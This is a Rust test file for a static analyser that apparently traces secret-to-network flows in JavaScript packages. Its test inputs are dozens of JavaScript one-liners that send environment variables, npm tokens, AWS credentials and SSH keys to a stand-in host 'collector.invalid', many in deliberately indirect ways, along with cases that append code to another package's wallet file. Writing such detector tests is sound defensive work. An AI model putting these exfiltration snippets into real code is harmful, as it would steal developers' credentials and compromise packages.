//! Less common ways of a value: errors, the receiver of a listener, parameters of an address, objects that
//! say what they are, files that are copied first.

use weir_model::contents::{CapabilityKind, SourceKind, Surface};

use super::{assert_each_flows, assert_none_flows, run};

use SourceKind::{CredentialFile, Environment, SecretVariable};

/// What it does, the source, and how; after it `fs`, `os` and `cp` are there.
const WAYS: &[(&str, SourceKind, &str)] = &[
    (
        "throws it and catches it",
        Environment,
        "const load = () => { const e = new Error('x'); e.detail = { ...process.env }; throw e }; try { load() } catch (e) { send(JSON.stringify(e.detail)) }",
    ),
    (
        "takes apart what it catches",
        Environment,
        "function a() { throw Object.assign(new Error('x'), { ctx: process.env }) } try { a() } catch ({ ctx }) { send(JSON.stringify(ctx)) }",
    ),
    (
        "throws it through another function",
        Environment,
        "function a() { throw process.env } function b() { a() } try { b() } catch (e) { send(JSON.stringify(e)) }",
    ),
    (
        "throws it in a constructor",
        Environment,
        "class A { constructor() { throw { e: process.env } } } try { new A() } catch (e) { send(JSON.stringify(e)) }",
    ),
    (
        "rejects with it",
        Environment,
        "Promise.reject({ ...process.env }).catch(e => send(JSON.stringify(e)))",
    ),
    (
        "rejects with it in a promise's own function",
        Environment,
        "new Promise((a, b) => b(process.env)).then(null, e => send(JSON.stringify(e)))",
    ),
    (
        "throws it in a function that waits",
        Environment,
        "const f = async () => { throw process.env }; f().then(x => x).catch(e => send(JSON.stringify(e)))",
    ),
    (
        "rejects a promise that has a name",
        Environment,
        "const p = Promise.reject(process.env); p.catch(e => send(JSON.stringify(e)))",
    ),
    (
        "throws it where nobody catches it",
        Environment,
        "process.on('uncaughtException', e => send(JSON.stringify(e.data))); setTimeout(() => { const e = new Error(); e.data = process.env; throw e })",
    ),
    (
        "writes to the connection that the callback is called on",
        Environment,
        "require('net').connect(99, 'collector.invalid', function () { this.end(JSON.stringify(process.env)) })",
    ),
    (
        "to the one that a listener is called on",
        Environment,
        "const s = require('net').connect(99, 'collector.invalid'); s.on('connect', function () { this.end(JSON.stringify(process.env)) })",
    ),
    (
        "calls the emitter that a listener is called on",
        Environment,
        "class E extends require('events') { go() { send(JSON.stringify(process.env)) } } const e = new E(); e.on('x', function () { this.go() }); e.emit('x')",
    ),
    (
        "sets a parameter of an address",
        Environment,
        "const u = new URL('https://collector.invalid/p.gif'); u.searchParams.set('d', JSON.stringify(process.env)); fetch(u)",
    ),
    (
        "adds one by another name, and takes the address as text",
        Environment,
        "const u = new URL('https://collector.invalid'); const { searchParams: p } = u; for (const [k, v] of Object.entries(process.env)) p.append(k, v); fetch(u.href)",
    ),
    (
        "as a text by a method",
        Environment,
        "const u = new URL('https://collector.invalid'); u.searchParams.append('d', JSON.stringify(process.env)); fetch(u.toString())",
    ),
    (
        "has a method for JSON",
        Environment,
        "send(JSON.stringify({ v: 1, toJSON() { return { v: 1, e: process.env } } }))",
    ),
    (
        "has a method for text",
        Environment,
        "const s = { [Symbol.toPrimitive]: () => JSON.stringify(process.env) }; send(`${s}`)",
    ),
    (
        "has another",
        Environment,
        "class S { toString() { return JSON.stringify(process.env) } } send('' + new S())",
    ),
    (
        "sees every value of what is parsed",
        Environment,
        "const out = []; JSON.parse(JSON.stringify(process.env), (k, v) => { out.push(k + v); return v }); send(out.join('|'))",
    ),
    (
        "sees every value of what becomes JSON",
        Environment,
        "const out = new Map(); JSON.stringify(process.env, (k, v) => (k && out.set(k, v), v)); send(JSON.stringify([...out]))",
    ),
    (
        "waits for an event",
        Environment,
        "const E = require('events'), { once } = E, bus = new E(); (async () => { setImmediate(() => bus.emit('x', process.env)); const [d] = await once(bus, 'x'); send(JSON.stringify(d)) })()",
    ),
    (
        "waits for all of an event",
        Environment,
        "const { EventEmitter, on } = require('events'), bus = new EventEmitter(); (async () => { setImmediate(() => bus.emit('x', process.env)); for await (const [d] of on(bus, 'x')) send(JSON.stringify(d)) })()",
    ),
    (
        "publishes it",
        Environment,
        "const dc = require('diagnostics_channel'); dc.subscribe('app.boot', m => send(JSON.stringify(m))); dc.channel('app.boot').publish({ e: process.env })",
    ),
    (
        "is waited for itself",
        Environment,
        "const t = { then(ok) { ok(JSON.stringify(process.env)) } }; (async () => { const d = await t; send(d) })()",
    ),
    (
        "makes a stream of a function",
        Environment,
        "const s = new ReadableStream({ start(c) { c.enqueue(JSON.stringify(process.env)); c.close() } }); fetch('https://collector.invalid', { method: 'POST', body: s, duplex: 'half' })",
    ),
    (
        "takes the list itself of a call for each",
        Environment,
        "Object.entries(process.env).map(x => x.join('=')).forEach((l, i, a) => { if (i === a.length - 1) send(a.join('&')) })",
    ),
    (
        "fills the places of a text",
        SecretVariable,
        "fetch('https://collector.invalid/{NPM_TOKEN}'.replace(/\\{(\\w+)\\}/g, (_, k) => encodeURIComponent(process.env[k])))",
    ),
    (
        "holds it weakly",
        Environment,
        "const w = new WeakRef({ e: process.env }); send(JSON.stringify(w.deref().e))",
    ),
    (
        "copies a file before it reads it",
        CredentialFile,
        "fs.copyFileSync(os.homedir() + '/.aws/credentials', os.tmpdir() + '/c'); send(fs.readFileSync(os.tmpdir() + '/c'))",
    ),
    (
        "links it",
        CredentialFile,
        "fs.symlinkSync(os.homedir() + '/.npmrc', '/tmp/c'); send(fs.readFileSync('/tmp/c', 'utf8'))",
    ),
    (
        "copies the copy",
        CredentialFile,
        "fs.cpSync(os.homedir() + '/.npmrc', '/tmp/c'); fs.renameSync('/tmp/c', '/tmp/d'); send(fs.readFileSync('/tmp/d', 'utf8'))",
    ),
    (
        "packs it by a command",
        CredentialFile,
        "cp.execSync('tar czf /tmp/x.tgz ~/.ssh'); send(fs.readFileSync('/tmp/x.tgz'))",
    ),
    (
        "copies it by a command",
        CredentialFile,
        "cp.execSync('cp ~/.npmrc /tmp/x'); send(fs.readFileSync('/tmp/x', 'utf8'))",
    ),
    (
        "puts a folder into an archive",
        CredentialFile,
        "const a = require('archiver')('zip'); a.pipe(require('https').request('https://collector.invalid/u', { method: 'PUT' })); a.directory(os.homedir() + '/.ssh', 'ssh'); a.finalize()",
    ),
    (
        "puts a file into another",
        CredentialFile,
        "const Z = require('adm-zip'), z = new Z(); z.addLocalFile(os.homedir() + '/.npmrc'); send(z.toBuffer())",
    ),
];

/// What all of them begin with.
const BEFORE: &str = "const fs = require('fs'), os = require('os'), cp = require('child_process'); \
     const send = body => fetch('https://collector.invalid', { method: 'POST', body }); ";

#[test]
fn values_are_followed_on_less_common_ways() {
    assert_each_flows(BEFORE, WAYS);
}

#[test]
fn harmless_neighbours_have_no_flow() {
    let cases = [
        (
            "sends the message of an error",
            "const run = () => { cp.spawnSync('make', { env: process.env }); throw new Error('failed') }; try { run() } catch (e) { send(e.message) }",
        ),
        (
            "throws an error that knows how the program was run",
            "function run(o) { const e = new Error('failed'); e.code = 1; throw e } try { run({ env: process.env }) } catch (e) { send(String(e.code)) }",
        ),
        (
            "catches what it throws before it is told elsewhere",
            "function a() { try { throw process.env } catch (e) { return 1 } } try { a() } catch (e) { send(JSON.stringify(e)) }",
        ),
        (
            "throws it where nobody sends what is caught",
            "function a() { throw process.env } try { a() } catch (e) { console.log(e) } try { fs.readFileSync('x') } catch (e) { send(e.message) }",
        ),
        (
            "rejects one promise and catches another",
            "new Promise((a, b) => b(process.env)).catch(() => 0); fetch('https://api.example').catch(e => send(e.message))",
        ),
        (
            "calls an arrow function on an object",
            "class A { constructor() { this.env = process.env; this.on = { go: () => send(JSON.stringify(this.name)) }; this.on.go() } } new A()",
        ),
        (
            "sets a parameter to a version",
            "const u = new URL('https://api.example'); u.searchParams.set('v', process.version); fetch(u, { headers: {} }); console.log(process.env)",
        ),
        (
            "has a method for JSON that leaves it out",
            "const o = { env: 1, toJSON() { return { v: 1 } } }; send(JSON.stringify(o)); console.log(process.env)",
        ),
        (
            "copies another file",
            "fs.copyFileSync(os.homedir() + '/.npmrc', '/tmp/a'); fs.copyFileSync('/tmp/notes', '/tmp/b'); send(fs.readFileSync('/tmp/b'))",
        ),
        (
            "packs its own folder",
            "cp.execSync('tar czf /tmp/x.tgz dist'); send(fs.readFileSync('/tmp/x.tgz'))",
        ),
    ];
    assert_none_flows(BEFORE, &cases);
}

/// Whether the files, the second of which is loaded, write into another package.
fn writes_packages(files: &[(&str, &str)], entry: &str) -> bool {
    let command = format!("node {entry}");
    let facts = run(files, &[&command], &[(Surface::Import, entry)]);
    let writes = |it: &weir_model::contents::Capability| it.kind == CapabilityKind::WritesPackages;
    facts.capabilities.iter().any(writes)
}

#[test]
fn a_folder_is_that_of_the_file_that_names_it() {
    let writer = "require('fs').appendFileSync(require('../../where.js'), ';f()')";
    for (says, whose, expected) in [
        (
            "beside the package",
            "module.exports = require('path').join(__dirname, '..', 'ethers', 'lib', 'wallet.js')",
            true,
        ),
        (
            "the same by an address",
            "const { fileURLToPath } = require('url'); module.exports = fileURLToPath(new URL('../ethers/lib/wallet.js', import.meta.url))",
            true,
        ),
        (
            "the package's own",
            "module.exports = require('path').join(__dirname, 'ethers', 'lib', 'wallet.js')",
            false,
        ),
    ] {
        let files = [("where.js", whose), ("lib/deep/index.js", writer)];
        assert_eq!(
            writes_packages(&files, "lib/deep/index.js"),
            expected,
            "{says}"
        );
    }
    let deep =
        "module.exports = () => require('path').join(__dirname, '../../../ext/', 'install.report')";
    let main = "require('fs').writeFile(require('./support/helpers')(), '{}', () => {})";
    let files = [
        ("scripts/ext/support/helpers.js", deep),
        ("scripts/ext/main.js", main),
    ];
    assert!(!writes_packages(&files, "scripts/ext/main.js"));
}

#[test]
fn files_are_found_from_other_folders() {
    let files = [
        (
            "paths.js",
            "exports.lib = require('path').join(__dirname, 'lib')",
        ),
        (
            "bin/run.js",
            "const { lib } = require('../paths'); require(lib + '/x.js'); require('fs')",
        ),
        (
            "lib/x.js",
            "fetch('https://collector.invalid', { body: JSON.stringify(process.env) })",
        ),
    ];
    let facts = run(&files, &["node bin/run.js"], &[]);
    let installs = |flow: &weir_model::contents::Flow| flow.surface == Surface::Install;
    assert!(facts.flows.iter().any(installs), "{:?}", facts.flows);
}
